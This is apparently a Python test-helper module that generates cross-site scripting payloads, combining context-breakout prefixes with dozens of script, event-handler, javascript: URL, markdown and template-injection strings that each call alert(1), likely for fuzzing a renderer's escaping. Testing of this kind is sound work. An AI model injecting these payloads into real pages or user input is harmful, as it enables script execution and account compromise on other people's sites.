"""Texts that would run if a page took them for code: what gets out of a place, times what runs there."""

from __future__ import annotations

from itertools import product

OUT = ("", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", '" ', "' ", "\\")
"""Ends of the places a text may stand in: element, attribute, script, comment, CDATA, string."""

RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<math href=javascript:alert(1)>x</math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<img src=x onerror=parent.alert(1)>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x",
    "<style onload=alert(1)>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "onmouseover=alert(1) x=",
    "onfocus=alert(1) autofocus tabindex=0 x=",
    "style=animation-name:x onanimationstart=alert(1) x=",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "${alert(1)}",
    "{{x.constructor.constructor('alert(1)')()}}",
    "{{ config.__class__ }}{% raw %}",
    ";alert(1);//",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
)
TEXTS = tuple(dict.fromkeys(out + run for out, run in product(OUT, RUNS)))


def pick(number: int, most: int) -> str:
    """One that fits `most` characters; the next number gives the next."""
    fitting = [text.strip() for text in TEXTS if len(text) <= most]
    return fitting[number % len(fitting)]


def together(number: int, of: int) -> str:
    """A share of all of them, a line each: of `of` shares, the one of this number."""
    return "\n\n".join(TEXTS[number::of])
